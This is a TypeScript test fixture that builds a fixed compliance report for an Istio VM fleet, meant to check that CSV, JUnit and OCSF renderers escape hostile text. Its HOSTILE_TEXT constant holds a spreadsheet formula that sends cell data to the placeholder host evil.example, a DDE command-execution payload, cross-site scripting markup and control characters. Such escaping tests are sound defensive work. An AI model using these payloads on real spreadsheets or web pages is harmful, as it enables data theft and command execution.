import { ReportSchema, type Finding, type Report } from '../../lib/core/report.ts';

/** What a compromised or broken VM can put in its output, and so in hostnames, messages and evidence. */
export const HOSTILE_TEXT = {
  formula: `=HYPERLINK("http://evil.example/?"&A1,"click")`,
  dde: `+cmd|' /C calc'!A0`,
  markup: `<script>alert("x")</script> "><img src=x onerror=alert(1)> ]]> &amp;`,
  controls: 'bell\u0007 nul\u0000 esc\u001b[31mred\u001b[0m vt\u000b lone\ud800 fffe\ufffe',
  lines: 'first line\r\nsecond, "quoted" line\rthird',
} as const;

const finding = (f: Omit<Finding, 'evidence'> & { evidence?: Finding['evidence'] }): Finding => ({ evidence: {}, ...f });

/**
 * A fixed report with every status, every subject kind and hostile VM text in every free-text field, for
 * the goldens of report.csv, report.junit.xml and report.ocsf.json. It is written out rather than analyzed
 * from a bundle so that those goldens change only when a renderer does; PASS findings carry no evidence,
 * since renderers must not depend on what a PASS keeps.
 */
export function hostileReport(): Report {
  return ReportSchema.parse({
    schemaVersion: 1,
    runId: '20261126T060000Z-aws-1a2b',
    startedAt: '2026-11-26T06:00:00.000Z',
    finishedAt: '2026-11-26T06:04:30.250Z',
    source: 'aws',
    summary: {
      vms: 3,
      compliant: 0,
      nonCompliant: 2,
      unknown: 1,
      byControl: {
        'COLLECT-01': { severity: 'HIGH', title: 'Diagnostics collected through SSM', PASS: 2, FAIL: 1, ERROR: 0, SKIP: 0, WAIVED: 0 },
        'HEALTH-03': { severity: 'CRITICAL', title: 'Sidecar ready (15021/healthz/ready)', PASS: 0, FAIL: 1, ERROR: 1, SKIP: 0, WAIVED: 1 },
        'NET-01': { severity: 'MEDIUM', title: 'Inbound capture rules present', PASS: 0, FAIL: 0, ERROR: 0, SKIP: 1, WAIVED: 0 },
        'REG-02': { severity: 'HIGH', title: 'No orphan WorkloadEntry', PASS: 0, FAIL: 1, ERROR: 0, SKIP: 0, WAIVED: 0 },
        'XDS-05': { severity: 'LOW', title: 'Proxy matches a VM', PASS: 0, FAIL: 1, ERROR: 0, SKIP: 0, WAIVED: 0 },
        'FLEET-01': { severity: 'INFORMATIONAL', title: 'Every istiod replica answered', PASS: 1, FAIL: 0, ERROR: 0, SKIP: 0, WAIVED: 0 },
      },
      bySeverity: { CRITICAL: 1, HIGH: 2, MEDIUM: 0, LOW: 1, INFORMATIONAL: 0 },
    },
    vms: [
      {
        instanceId: 'i-0a1b2c3d4e5f60001',
        hostname: HOSTILE_TEXT.formula,
        ip: '10.0.0.1',
        proxyId: 'web-1.payments',
        namespace: 'payments',
        workloadEntry: 'payments/web-1',
        status: 'NON_COMPLIANT',
      },
      {
        instanceId: 'i-0a1b2c3d4e5f60002',
        hostname: 'web-2',
        ip: '10.0.0.2',
        proxyId: 'web-2.payments',
        namespace: 'payments',
        workloadEntry: null,
        status: 'NON_COMPLIANT',
      },
      {
        instanceId: 'mi-0a1b2c3d4e5f60003',
        hostname: null,
        ip: null,
        proxyId: null,
        namespace: null,
        workloadEntry: null,
        status: 'UNKNOWN',
      },
    ],
    findings: [
      finding({
        control: 'COLLECT-01',
        status: 'PASS',
        severity: 'HIGH',
        subject: { kind: 'vm', id: 'i-0a1b2c3d4e5f60001' },
        message: 'the diagnostic script ran and its output parsed',
        remediation: 'Check the node in Fleet Manager.',
      }),
      finding({
        control: 'COLLECT-01',
        status: 'PASS',
        severity: 'HIGH',
        subject: { kind: 'vm', id: 'i-0a1b2c3d4e5f60002' },
        message: 'the diagnostic script ran and its output parsed',
        remediation: 'Check the node in Fleet Manager.',
      }),
      finding({
        control: 'COLLECT-01',
        status: 'FAIL',
        severity: 'HIGH',
        subject: { kind: 'vm', id: 'mi-0a1b2c3d4e5f60003' },
        message: 'the SSM invocation ended Failed: Undeliverable',
        evidence: { status: 'Failed', statusDetails: 'Undeliverable', responseCode: -1, stderr: HOSTILE_TEXT.dde },
        remediation: 'Check the node in Fleet Manager.',
      }),
      finding({
        control: 'HEALTH-03',
        status: 'FAIL',
        severity: 'CRITICAL',
        subject: { kind: 'vm', id: 'i-0a1b2c3d4e5f60001' },
        message: `the readiness probe answered 503: ${HOSTILE_TEXT.markup}`,
        evidence: { httpCode: '503', logLine: HOSTILE_TEXT.controls, lines: HOSTILE_TEXT.lines },
        remediation: '-Run `curl -v localhost:15021/healthz/ready`, then read "/var/log/istio/istio.log".',
      }),
      finding({
        control: 'HEALTH-03',
        status: 'WAIVED',
        severity: 'CRITICAL',
        subject: { kind: 'vm', id: 'i-0a1b2c3d4e5f60002' },
        message: 'the readiness probe refused the connection (waived until 2027-01-31T00:00:00Z by platform-team@example.com)',
        evidence: { outcome: 'refused' },
        remediation: 'Run `curl -v localhost:15021/healthz/ready`.',
      }),
      finding({
        control: 'HEALTH-03',
        status: 'ERROR',
        severity: 'CRITICAL',
        subject: { kind: 'vm', id: 'mi-0a1b2c3d4e5f60003' },
        message: 'no diagnostic output to evaluate (see COLLECT-01)',
        remediation: 'Run `curl -v localhost:15021/healthz/ready`.',
      }),
      finding({
        control: 'NET-01',
        status: 'SKIP',
        severity: 'MEDIUM',
        subject: { kind: 'vm', id: 'i-0a1b2c3d4e5f60002' },
        message: '@ISTIO_CUSTOM_IP_TABLES=true: the operator installs the capture rules',
        remediation: '',
      }),
      finding({
        control: 'REG-02',
        status: 'FAIL',
        severity: 'HIGH',
        subject: { kind: 'workloadentry', id: 'payments/web-9' },
        message: 'WorkloadEntry payments/web-9 (10.0.0.9) matches no VM of the fleet',
        evidence: { address: '10.0.0.9', labels: { app: 'web', '\tversion': HOSTILE_TEXT.lines } },
        remediation: 'Delete it with `kubectl -n payments delete workloadentry web-9` if the VM is gone.',
      }),
      finding({
        control: 'XDS-05',
        status: 'FAIL',
        severity: 'LOW',
        subject: { kind: 'proxy', id: 'web-1.payments' },
        message: `proxy web-1.payments is connected but its VM reports another proxy id: ${HOSTILE_TEXT.controls} ${HOSTILE_TEXT.lines}`,
        evidence: { proxy: 'web-1.payments', istiod: 'istiod-7f9c-abcde' },
        remediation: 'Compare ISTIO_META on the VM with the WorkloadEntry.',
      }),
      finding({
        control: 'FLEET-01',
        status: 'PASS',
        severity: 'INFORMATIONAL',
        subject: { kind: 'fleet', id: 'fleet' },
        message: 'both istiod replicas answered',
        remediation: 'Check istiod.',
      }),
    ],
    waivers: [],
  });
}
